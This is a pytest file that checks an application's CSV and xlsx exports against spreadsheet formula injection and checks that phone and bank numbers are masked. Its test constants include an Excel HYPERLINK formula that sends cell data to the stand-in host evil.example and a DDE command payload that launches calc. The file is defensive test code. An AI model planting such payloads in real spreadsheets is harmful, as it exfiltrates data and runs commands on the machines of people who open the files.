"""Exports safe to open (issue 10, point 5): text that Excel would run as a formula is
neutralised with a leading quote in CSV and xlsx and in the minutes template, numbers stay
numbers (a negative amount too), free text has phone, bank and ID numbers masked."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from sqlalchemy import insert, select, update
from sqlalchemy.engine import Engine
from zhucun.models import PlanItem, Shortage
from zhucun.tasks.review_minutes import write_minutes

from tests.support.registry_fixtures import valid_folder
from tests.test_export import _seed_lifecycle
from zhucun.exchange.exporter import export_folder
from zhucun.exchange.importer import import_folder
from zhucun.exchange.sources import SHEET_TITLES

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1)"
PHONE = "13912345678"
ACCOUNT = "6222020200112233445"


def _plant(engine: Engine) -> None:
    """Hostile text as a clerk could type it, written straight into the rows."""
    with engine.begin() as conn:
        first = conn.execute(select(PlanItem).order_by(PlanItem.id).limit(1)).mappings().one()
        conn.execute(update(PlanItem).where(PlanItem.id == first["id"]).values(item=HYPERLINK))
        copy = {k: v for k, v in first.items() if k != "id"}
        conn.execute(insert(PlanItem).values(**{**copy, "item": CMD, "cost_yuan": -1500.5}))
        conn.execute(update(Shortage).values(reason=f"{AT} 联系村医 {PHONE}，账户 {ACCOUNT}"))


def _csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_and_xlsx_neutralise_formulas_mask_free_text_and_keep_numbers(
    engine: Engine, tmp_path: Path
) -> None:
    assert import_folder(valid_folder(tmp_path / "in")).ok
    _seed_lifecycle(engine)
    _plant(engine)
    out, book = tmp_path / "out", tmp_path / "out.xlsx"
    export_folder(out, engine=engine, xlsx=book)

    items = {r["item"]: r for r in _csv(out / "plan_items.csv")}
    assert "'" + HYPERLINK in items and "'" + CMD in items
    assert items["'" + CMD]["cost_yuan"] == "-1500.5"  # a number, not neutralised
    reasons = {r["reason"] for r in _csv(out / "shortages.csv")}
    assert reasons == {f"'{AT} 联系村医 139****5678，账户 ***************3445"}

    wb = openpyxl.load_workbook(book)
    sheet = wb[SHEET_TITLES["plan_items"]]
    values = [c for row in sheet.iter_rows(min_row=2, values_only=True) for c in row]
    assert "'" + HYPERLINK in values and "'" + CMD in values
    assert -1500.5 in values  # still a number Excel can sum
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in values)
    shortages = [c for r in wb[SHEET_TITLES["shortages"]].iter_rows(values_only=True) for c in r]
    assert f"'{AT} 联系村医 139****5678，账户 ***************3445" in shortages
    assert not any(PHONE in str(v) or ACCOUNT in str(v) for v in shortages)


def test_minutes_template_neutralises_formula_like_cells(tmp_path: Path) -> None:
    row = dict(
        stage="team",
        subject="strategy",
        subject_id="=1+1",
        reviewer_id="-2",
        decision="approve",
        reason="\tx",
        decided_on="2026-01-05",
    )
    path = write_minutes([row], tmp_path / "minutes.csv")
    (got,) = _csv(path)
    assert got["subject_id"] == "'=1+1" and got["reviewer_id"] == "'-2"
    assert got["reason"] == "'\tx" and got["decided_on"] == "2026-01-05"
